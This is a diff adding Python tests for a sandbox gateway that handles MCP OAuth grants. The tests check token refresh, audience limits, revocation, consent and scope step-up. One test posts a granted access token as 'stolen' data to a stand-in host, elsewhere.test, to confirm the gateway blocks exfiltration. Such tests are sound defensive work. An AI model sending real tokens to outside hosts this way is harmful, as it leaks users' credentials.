@@ -209,3 +209,140 @@ def test_an_agent_lists_and_calls_tools_after_one_consent(
                and r["host"] == "mcp.test" and r["decision"] == "allow" for r in lines)
     assert any(r["decision"] == "grant" and mine[0]["id"] in r["reason"] for r in lines)
     assert not any(t in json.dumps(lines) for t in used)
+
+
+INITIALIZE = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+    "protocolVersion": "2025-06-18", "capabilities": {},
+    "clientInfo": {"name": "raw", "version": "1"}}})
+
+
+def _post(gw: GatewayThread, sandbox: str, url: str = "https://mcp.test/mcp",
+          headers: dict[str, str] | None = None, body: str = INITIALIZE,
+          policy: str = "agent") -> httpx.Response:
+    """A raw MCP POST through the gateway (no SDK), as `sandbox`."""
+    token = gw.mint(policy, sandbox)
+    verify = ssl.create_default_context(cafile=str(gw.ca_cert))
+    with httpx.Client(proxy=gw.proxy_url(token, sandbox), verify=verify, timeout=60) as c:
+        return c.post(url, content=body, headers={
+            "Content-Type": "application/json",
+            "Accept": "application/json, text/event-stream", **(headers or {})})
+
+
+def _granted(gw: GatewayThread, server: Server, test_ca: LocalCA, sandbox: str) -> str:
+    """`sandbox` gets a grant (one consent) and uses it; its access token, as the
+    server saw it."""
+    client = Client(gw, [{"call": "whoami"}], sandbox)
+    client.start()
+    _consent(gw, server, test_ca)
+    assert client.result()[0]["text"].startswith("client ")
+    return str(server.events("call")[-1]["access"])
+
+
+def _grant_of(gw: GatewayThread, owner: str) -> dict[str, Any]:
+    found = [g for g in admin_api(gw, "GET", "/v1/mcp/oauth/grants")["grants"]
+             if g["owner"] == owner]
+    assert len(found) == 1, found
+    return found[0]
+
+
+def test_the_token_is_refreshed_before_it_expires(
+        gateway: GatewayThread, server: Server, test_ca: LocalCA) -> None:
+    sandbox = f"refresh-{gateway.config.network.intercept}"
+    first = _granted(gateway, server, test_ca, sandbox)
+    refreshed = len(server.events("refresh"))
+    time.sleep(TTL + 0.5)  # (the access token has expired at the server)
+    again = Client(gateway, [{"call": "whoami"}], sandbox)
+    again.start()
+    assert again.result()[0]["text"].startswith("client ")  # (no consent asked)
+    second = str(server.events("call")[-1]["access"])
+    assert second != first and len(server.events("refresh")) == refreshed + 1
+    assert _grant_of(gateway, f"sandbox:{sandbox}")["expires_at"] > time.time()
+
+
+def test_a_token_the_sandbox_presents_is_refused(gateway: GatewayThread,
+                                                 server: Server) -> None:
+    before = len(server.events())
+    answer = _post(gateway, "smuggler", headers={"Authorization": "Bearer mine-own-token"})
+    assert answer.status_code == 403
+    assert answer.headers["x-sandbox-gateway-error"] == "mcp_token_refused"
+    assert "Authorization" in answer.json()["reason"]
+    assert len(server.events()) == before  # (nothing reached the server)
+
+
+def test_a_token_goes_only_to_the_resource_it_was_issued_for(
+        gateway: GatewayThread, server: Server, test_ca: LocalCA) -> None:
+    """other.test reaches the same server, whose metadata names mcp.test as its
+    resource: no token is asked for it (nor the mcp.test token sent there)."""
+    sandbox = f"audience-{gateway.config.network.intercept}"
+    _granted(gateway, server, test_ca, sandbox)
+    answer = _post(gateway, sandbox, url="https://other.test/mcp")
+    assert answer.status_code == 502, answer.text
+    assert answer.headers["x-sandbox-gateway-error"] == "mcp_oauth_failed"
+    assert "names resource 'https://mcp.test/mcp', not this server" in answer.json()["reason"]
+    assert not [a for a in admin_api(gateway, "GET", "/v1/approvals")["approvals"]
+                if a["state"] == "pending"]
+
+
+def test_the_token_is_a_leak_marker_everywhere_else(
+        gateway: GatewayThread, server: Server, test_ca: LocalCA) -> None:
+    sandbox = f"leak-{gateway.config.network.intercept}"
+    token = _granted(gateway, server, test_ca, sandbox)
+    answer = _post(gateway, sandbox, url="https://elsewhere.test/upload",
+                   body=json.dumps({"stolen": token}))
+    assert answer.status_code == 403
+    assert answer.headers["x-sandbox-gateway-error"] == "exfiltration_blocked"
+
+
+def test_a_revoked_grant_asks_again(gateway: GatewayThread, server: Server,
+                                    test_ca: LocalCA) -> None:
+    sandbox = f"revoke-{gateway.config.network.intercept}"
+    _granted(gateway, server, test_ca, sandbox)
+    grant = _grant_of(gateway, f"sandbox:{sandbox}")
+    revoked = len(server.events("revoke"))
+    gone = admin_api(gateway, "DELETE", f"/v1/mcp/oauth/grants/{grant['id']}", {"by": "ops"})
+    assert gone == {"revoked": grant["id"]}
+    assert len(server.events("revoke")) == revoked + 2  # (refresh and access tokens)
+    assert any(r["decision"] == "revoke" and grant["id"] in r["reason"] and "by ops" in
+               r["reason"] for r in gateway.audit.records())
+    _granted(gateway, server, test_ca, sandbox)  # (asked again, and granted)
+    assert _grant_of(gateway, f"sandbox:{sandbox}")["id"] != grant["id"]
+
+
+def test_a_declined_consent_refuses_the_request(gateway: GatewayThread) -> None:
+    sandbox = f"declined-{gateway.config.network.intercept}"
+    answers: list[httpx.Response] = []
+    held = threading.Thread(target=lambda: answers.append(_post(gateway, sandbox)))
+    held.start()
+    approval = next(a for a in _consents(gateway) if a["sandbox"] == sandbox)
+    refused = httpx.post(f"{gateway.admin}/v1/approvals/{approval['id']}",
+                         json={"decision": "approve"}, timeout=10, headers={
+                             "Authorization": "Bearer " + (gateway.config.certs /
+                                                           "admin-token").read_text().strip()})
+    assert refused.status_code == 400 and "authorization URL" in refused.json()["reason"]
+    admin_api(gateway, "POST", f"/v1/approvals/{approval['id']}",
+              {"decision": "deny", "by": "alice", "note": "not this one"})
+    held.join(30)
+    assert answers[0].status_code == 403
+    assert answers[0].headers["x-sandbox-gateway-error"] == "approval_denied"
+
+
+def test_insufficient_scope_goes_back_to_consent(gateway: GatewayThread, server: Server,
+                                                 test_ca: LocalCA) -> None:
+    """A policy asks for scope profile only (consent per policy); the server needs mcp:
+    its 403 insufficient_scope is answered mcp_consent_required, and the retry asks a
+    person again for the union of the scopes; then the calls go through."""
+    sandbox = f"stepup-{gateway.config.network.intercept}"
+    first = Client(gateway, [{"call": "whoami"}], sandbox, policy="narrow")
+    first.start()
+    asked = _consent(gateway, server, test_ca)
+    assert asked["consent"]["scopes"] == ["profile"]
+    first.join(60)
+    assert first.results is None  # (initialize was refused: the SDK client stops)
+    assert any(r["error"] == "mcp_consent_required" and r["policy"] == "narrow"
+               for r in gateway.audit.records())
+    again = Client(gateway, [{"call": "whoami"}], sandbox, policy="narrow")
+    again.start()
+    stepped = _consent(gateway, server, test_ca)
+    assert stepped["consent"]["scopes"] == ["profile", "mcp"]
+    assert again.result()[0]["text"].startswith("client ")
+    assert _grant_of(gateway, "policy:narrow")["scopes"] == ["profile", "mcp"]
